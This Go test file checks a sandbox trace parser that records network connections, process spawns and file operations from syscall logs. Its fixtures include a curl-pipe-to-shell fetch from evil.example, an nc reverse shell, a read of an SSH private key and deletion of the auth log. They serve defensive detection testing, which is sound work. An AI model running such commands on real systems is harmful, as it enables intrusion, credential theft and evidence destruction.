package sandbox

import (
	"strings"
	"testing"
)

func TestParseTraceConnect(t *testing.T) {
	lines := []string{
		`connect(3, {sa_family=AF_INET, sin_port=htons(443), sin_addr="203.0.113.7"}, 16) = 0`,
		`connect(4, {sa_family=AF_INET, sin_port=htons(80), sin_addr=inet_addr("198.51.100.9")}, 16) = 0`,
		`connect(5, {sa_family=AF_INET, sin_port=htons(443), sin_addr="203.0.113.7"}, 16) = 0`,
	}
	var tr Trace
	ParseTraceLines(lines, &tr)

	if len(tr.NetworkConnections) != 2 {
		t.Fatalf("expected 2 deduplicated endpoints, got %v", tr.NetworkConnections)
	}
	if tr.NetworkConnections[0] != "203.0.113.7:443" {
		t.Errorf("expected 203.0.113.7:443, got %s", tr.NetworkConnections[0])
	}
	if tr.NetworkConnections[1] != "198.51.100.9:80" {
		t.Errorf("expected 198.51.100.9:80, got %s", tr.NetworkConnections[1])
	}
}

func TestParseTraceExecve(t *testing.T) {
	lines := []string{
		`execve("/bin/sh", ["sh", "-c", "curl http://evil.example/x | sh"], 0x7ffd) = 0`,
		`execve("/usr/bin/nc", ["nc", "-e", "/bin/sh", "203.0.113.7", "4444"], 0x7ffe) = 0`,
	}
	var tr Trace
	ParseTraceLines(lines, &tr)

	if len(tr.ProcessSpawns) != 2 {
		t.Fatalf("expected 2 spawns, got %v", tr.ProcessSpawns)
	}
	if !strings.Contains(tr.ProcessSpawns[0], "curl http://evil.example/x | sh") {
		t.Errorf("argv not reconstructed: %s", tr.ProcessSpawns[0])
	}
	if !strings.HasPrefix(tr.ProcessSpawns[1], "nc -e") {
		t.Errorf("argv not reconstructed: %s", tr.ProcessSpawns[1])
	}
}

func TestParseTraceFileOps(t *testing.T) {
	lines := []string{
		`openat(AT_FDCWD, "/home/sandbox/.ssh/id_rsa", O_RDONLY) = 3`,
		`unlink("/var/log/auth.log") = 0`,
		`openat(AT_FDCWD, "/home/sandbox/.ssh/id_rsa", O_RDONLY) = 4`,
	}
	var tr Trace
	ParseTraceLines(lines, &tr)

	if len(tr.FileOperations) != 2 {
		t.Fatalf("expected 2 deduplicated paths, got %v", tr.FileOperations)
	}
}

func TestParseTraceMalformedLinesAreDropped(t *testing.T) {
	lines := []string{
		"",
		"garbage with no syscall",
		`connect(3, <truncated`,
		`execve(`,
	}
	var tr Trace
	ParseTraceLines(lines, &tr)

	if len(tr.NetworkConnections)+len(tr.ProcessSpawns)+len(tr.FileOperations) != 0 {
		t.Errorf("malformed lines produced records: %+v", tr)
	}
}

func TestParseReportTakesLastJSONLine(t *testing.T) {
	stdout := []byte(`pip install noise
{"bogus": true
{"installExit": 0, "importExit": 1, "installedVersion": "1.2.3", "downloadSizeBytes": 4096, "traceLines": [], "timedOut": false}`)

	report, err := parseReport(stdout)
	if err != nil {
		t.Fatalf("parseReport: %v", err)
	}
	if report.InstallExit == nil || *report.InstallExit != 0 {
		t.Errorf("installExit = %v", report.InstallExit)
	}
	if report.ImportExit == nil || *report.ImportExit != 1 {
		t.Errorf("importExit = %v", report.ImportExit)
	}
	if report.InstalledVersion != "1.2.3" {
		t.Errorf("installedVersion = %q", report.InstalledVersion)
	}
}

func TestParseReportNoJSON(t *testing.T) {
	if _, err := parseReport([]byte("docker: image not found\n")); err == nil {
		t.Error("expected error for output without a report line")
	}
}
